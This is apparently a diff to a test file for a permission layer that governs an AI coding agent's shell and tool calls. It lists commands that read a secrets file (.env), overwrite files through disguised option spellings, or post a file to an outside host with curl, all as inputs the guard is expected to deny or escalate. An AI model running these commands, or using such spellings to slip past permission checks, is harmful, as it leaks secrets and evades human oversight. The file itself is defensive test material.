@@ -50,7 +50,7 @@ function session(): readonly { readonly tool: string; readonly input: object }[]
     read('package.json'),
     read('README.md'),
     { tool: 'Glob', input: { pattern: 'src/**/*.ts' } },
-    { tool: 'Grep', input: { pattern: 'total', path: daemon.place.workspace } },
+    { tool: 'Grep', input: { pattern: 'total', path: at('src') } },
     { tool: 'TodoWrite', input: { todos: [{ content: 'find the bug', status: 'pending' }] } },
     read('src/cart.ts'),
     read('src/price.ts'),
@@ -139,4 +139,30 @@ test('sixty ordinary calls ask only about what runs code, cannot be undone or le
     'git push origin main',
     'curl -X POST https://example.com/hook -d @README.md',
   ]);
+});
+
+test('what runs unasked neither reads a closed file nor overwrites one, however its options are written', async () => {
+  for (const command of ['cat -e .env', 'grep -ne. .env', 'sed -n -ne1p .env', 'awk 1 .env', 'touch .env']) {
+    assert.equal((await client.use('Bash', { command })).permissionDecision, 'deny', command);
+  }
+  for (const command of [
+    'sort --outp=package.json README.md',
+    'sort -opackage.json README.md',
+    'uniq README.md package.json',
+    'git log --output=package.json',
+    'sed -n --in-pl p README.md',
+    "sed -n -ne'w package.json' README.md",
+    "sed -n '1r .env' README.md",
+    `awk 'BEGIN { ARGV[1] = ".env"; ARGC = 2 } 1' README.md`,
+    'mkdir /srv/elsewhere',
+  ]) {
+    const using = client.use('Bash', { command });
+    let task: string | undefined;
+    while (task === undefined) {
+      const pending = await Promise.race([desk.pending(), using.then(() => assert.fail(`${command} did not ask`))]);
+      task = pending[0]?.id;
+    }
+    await desk.decide(task, false);
+    assert.equal((await using).permissionDecision, 'deny', command);
+  }
 });
